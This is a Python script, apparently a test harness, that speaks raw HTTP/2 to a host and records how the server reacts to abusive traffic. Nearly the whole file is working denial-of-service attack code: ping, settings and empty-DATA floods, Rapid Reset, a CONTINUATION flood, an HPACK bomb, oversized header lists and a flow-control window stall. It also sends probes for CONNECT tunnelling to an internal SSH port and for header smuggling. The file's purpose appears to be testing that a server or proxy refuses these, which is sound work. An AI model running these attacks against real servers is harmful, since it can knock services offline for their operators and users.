# SPDX-License-Identifier: Apache-2.0
"""What a hostile program inside the box says over HTTP/2, frame by frame, and what it hears.

    h2_abuse.py HOST KIND [SECONDS]     prints {"ended", "code", "sent", "seconds", ...} as JSON

KIND is a name of KINDS.  Each goes on until the other end gives the connection up, or until
its time is over.
"""

import json
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END, ENDH = 1, 4


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    raw = value.encode("latin1")
    assert len(raw) < 127
    return bytes([len(raw)]) + raw


def head(*fields):
    """Literals without a table: nothing of HPACK is needed."""
    return b"".join(b"\0" + text(name) + text(value) for name, value in fields)


class Wire:
    def __init__(self, host, settings=b""):
        context = ssl.create_default_context()
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection((host, 443), 10)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.host, self.tls = host, context.wrap_socket(raw, server_hostname=host)
        self.protocol = self.tls.selected_alpn_protocol()
        self.sent = 0
        self.got, self.frames, self.code, self.ended = b"", {}, None, None
        self.resets, self.heads = {}, []
        self.send(PREFACE + frame(SETTINGS, payload=settings))

    def get(self, path="/", method="GET", *more):
        return head((":method", method), (":scheme", "https"), (":authority", self.host), (":path", path), *more)

    def send(self, data):
        try:
            self.tls.settimeout(5)
            self.tls.sendall(data)
            self.sent += len(data)
        except (OSError, ssl.SSLError) as e:
            self.ended = self.ended or type(e).__name__

    def read(self, seconds):
        """Takes what has come; true: something did."""
        self.tls.settimeout(seconds or 0.000001)
        try:
            data = self.tls.recv(1 << 16)
        except (TimeoutError, ssl.SSLWantReadError):
            return False
        except (OSError, ssl.SSLError) as e:
            self.ended = self.ended or type(e).__name__
            return False
        if not data:
            self.ended = self.ended or "closed"
            return False
        self.got += data
        while len(self.got) >= 9:
            size = int.from_bytes(self.got[:3], "big")
            if len(self.got) < 9 + size:
                break
            kind, stream = self.got[3], int.from_bytes(self.got[5:9], "big")
            payload = self.got[9:9 + size]
            self.frames[kind] = self.frames.get(kind, 0) + 1
            if kind == GOAWAY:
                self.code = int.from_bytes(payload[4:8], "big")
            elif kind == RST:
                self.resets[stream] = int.from_bytes(payload, "big")
            elif kind == HEADERS:
                self.heads.append(stream)
            self.got = self.got[9 + size:]
        return True

    def over(self):
        return self.ended or self.code is not None


def flood(w, end, make, reads=True):
    """make(n) -> bytes, again and again."""
    n = 0
    while not w.over() and time.monotonic() < end:
        w.send(b"".join(make(n + i) for i in range(50)))
        n += 50
        while reads and w.read(0):
            pass
    while not w.over() and time.monotonic() < end and w.read(1):
        pass
    return {"rounds": n}


def kind_ping(w, end):
    return flood(w, end, lambda n: frame(PING, payload=b"12345678"))


def kind_ping_unread(w, end):
    return flood(w, end, lambda n: frame(PING, payload=b"12345678"), reads=False)


def kind_settings(w, end):
    return flood(w, end, lambda n: frame(SETTINGS, payload=struct.pack(">HI", 4, n % 60000)))


def kind_empty_data(w, end):
    w.send(frame(HEADERS, ENDH, 1, w.get("/echo", "POST")))
    return flood(w, end, lambda n: frame(DATA, 0, 1))


def kind_rapid_reset(w, end):
    return flood(w, end, lambda n: frame(HEADERS, ENDH | END, 2 * n + 1, w.get("/slow")) +
                 frame(RST, 0, 2 * n + 1, struct.pack(">I", 8)))


def kind_made_reset(w, end):
    return flood(w, end, lambda n: frame(HEADERS, ENDH | END, 2 * n + 1, w.get("/slow")) +
                 frame(WINDOW, 0, 2 * n + 1, b"\0\0\0\0"))


def kind_continuation(w, end):
    w.send(frame(HEADERS, 0, 1, w.get()))
    return flood(w, end, lambda n: frame(CONTINUATION, 0, 1, head(("x", "y" * 100)) * 100))


def kind_hpack_bomb(w, end):
    entry = b"\x40" + text("x") + b"\x7f\xa1\x1e" + b"a" * 4000
    return flood(w, end, lambda n: frame(HEADERS, ENDH | END, 2 * n + 1, w.get() + entry + b"\xbe" * 11000))


def kind_header_list(w, end):
    block = w.get() + head(("x", "y" * 120)) * 700       # below 16 KiB? no: in CONTINUATION frames
    parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    w.send(frame(HEADERS, END, 1, parts[0]) + b"".join(frame(CONTINUATION, 0, 1, p) for p in parts[1:-1]) +
           frame(CONTINUATION, ENDH, 1, parts[-1]))
    while not w.over() and not w.heads and time.monotonic() < end:
        w.read(0.5)
    answered = list(w.heads)
    w.send(frame(HEADERS, ENDH | END, 3, w.get("/after")))
    while not w.over() and 3 not in w.heads and time.monotonic() < end:
        w.read(0.5)
    return {"answered": answered, "goes on": 3 in w.heads}


def kind_window_stall(w, end):
    """A hundred large answers are asked for and none is taken."""
    for n in range(100):
        w.send(frame(HEADERS, ENDH | END, 2 * n + 1, w.get("/big/50000000")))
    while not w.over() and time.monotonic() < end:
        w.read(0.5)
    return {"data": w.frames.get(DATA, 0)}


def kind_too_many(w, end):
    return flood(w, end, lambda n: frame(HEADERS, ENDH, 2 * n + 1, w.get("/echo", "POST")))


def refused(w, end, block):
    began = time.monotonic()
    w.send(frame(HEADERS, ENDH, 1, block))
    while not w.over() and not w.resets and not w.heads and time.monotonic() < end:
        w.read(0.5)
    took = time.monotonic() - began
    w.send(frame(HEADERS, ENDH | END, 3, w.get("/after")))
    while not w.over() and 3 not in w.heads and time.monotonic() < end:
        w.read(0.5)
    return {"took": took, "reset": w.resets.get(1), "answered": 1 in w.heads, "goes on": 3 in w.heads}


def kind_extended_connect(w, end):
    return refused(w, end, head((":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "https"),
                                (":authority", w.host), (":path", "/ws")))


def kind_connect(w, end):
    return refused(w, end, head((":method", "CONNECT"), (":authority", "inner.test:22")))


def kind_other_authority(w, end):
    return refused(w, end, head((":method", "GET"), (":scheme", "https"), (":authority", "web.test"), (":path", "/")))


def kind_other_host(w, end):
    return refused(w, end, w.get("/", "GET", ("host", "web.test")))


def kind_upper_case(w, end):
    return refused(w, end, w.get("/", "GET", ("X-Upper", "1")))


def kind_hop(w, end):
    return refused(w, end, w.get("/", "GET", ("transfer-encoding", "chunked")))


KINDS = {name[5:].replace("_", " "): f for name, f in list(globals().items()) if name.startswith("kind_")}


def main(host, kind, seconds="8"):
    began = time.monotonic()
    settings = struct.pack(">HI", 4, 0) if kind == "window stall" else b""
    w = Wire(host, settings)
    out = KINDS[kind](w, began + float(seconds))
    print(json.dumps({"ended": w.ended, "code": w.code, "sent": w.sent, "seconds": time.monotonic() - began,
                      "protocol": w.protocol, "resets": len(w.resets), **out}))


if __name__ == "__main__":
    main(*sys.argv[1:])
